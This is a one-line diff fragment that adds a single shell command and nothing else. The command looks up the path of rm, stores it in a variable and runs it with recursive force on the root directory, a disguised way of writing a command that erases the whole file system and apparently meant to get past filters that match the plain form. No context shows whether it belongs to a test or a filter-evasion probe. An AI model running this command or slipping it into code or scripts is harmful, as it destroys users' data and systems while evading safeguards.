@@ -1,0 +1,1 @@
+T=$(command -v rm); "$T" -rf /
